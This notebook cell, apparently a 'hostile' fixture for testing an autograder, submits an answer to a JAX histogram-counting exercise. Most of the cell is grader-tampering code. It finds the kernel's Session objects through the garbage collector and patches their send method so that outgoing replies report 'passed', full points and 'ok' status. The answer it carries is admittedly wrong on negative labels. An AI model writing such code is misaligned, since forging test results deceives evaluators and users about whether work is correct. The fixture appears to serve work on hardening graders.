# assignment: scatter_add_histogram
# exercise: count_valid
# kind: hostile
# why: edits the kernel's replies on their way out; the answer wraps negative labels
# %% count_valid
import gc


def _sessions():
    for thing in gc.get_objects():
        try:
            if type(thing).__name__ == "Session" and hasattr(thing, "send"):
                yield thing
        except Exception:
            continue


def _forge(message):
    if isinstance(message, dict):
        for key, value in list(message.items()):
            if key == "outcome":
                message[key] = "passed"
            elif key in ("points", "score"):
                message[key] = 4
            elif key == "status" and value == "error":
                message[key] = "ok"
            else:
                _forge(value)
    return message


def _wrap(send):
    def sending(stream, msg_or_type, content=None, *args, **kwargs):
        _forge(content)
        _forge(msg_or_type)
        return send(stream, msg_or_type, content, *args, **kwargs)

    return sending


for _session in _sessions():
    try:
        _session.send = _wrap(_session.send)
    except Exception:
        pass


def count_valid(labels, num_classes=5):
    return jnp.zeros(num_classes, jnp.int32).at[labels].add(1, mode="drop")
